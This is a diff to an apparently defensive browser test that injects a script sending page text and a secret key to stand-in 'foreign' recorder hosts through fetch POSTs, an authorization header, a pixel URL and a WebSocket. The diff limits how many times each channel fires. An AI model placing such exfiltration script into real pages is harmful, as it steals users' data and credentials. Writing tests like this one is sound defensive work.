@@ -142,14 +142,15 @@ test(
   async ({ chromium }) => {
     const recorders = await startRecorders();
     const send = (key: string): string =>
-      `<script>setInterval(() => { for (const [url, options] of [
+      `<script>let left = 5;
+     const sending = setInterval(() => { if ((left -= 1) === 0) clearInterval(sending); for (const [url, options] of [
        ['${recorders.foreign}/?c=body', { method: 'POST', mode: 'no-cors', body: document.body.innerText }],
        ['${recorders.foreign}/?c=header', { headers: { authorization: 'Token ${key}' } }],
        ['${recorders.plain}/?c=plain', { method: 'POST', mode: 'no-cors', body: '${key}' }],
        ['/pixel?k=${key}', { mode: 'no-cors' }],
      ]) fetch(url, options).catch(() => {}) }, 200);
      const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=frame');
-     socket.onopen = () => setInterval(() => socket.send('${key}'), 100)</script>`;
+     socket.onopen = () => { for (let sent = 0; sent < 5; sent += 1) setTimeout(() => socket.send('${key}'), 100 * sent); }</script>`;
     const old = crypto.randomUUID().replaceAll('-', '');
     const page = await startOddPage({
       page: ({ keys }) => {
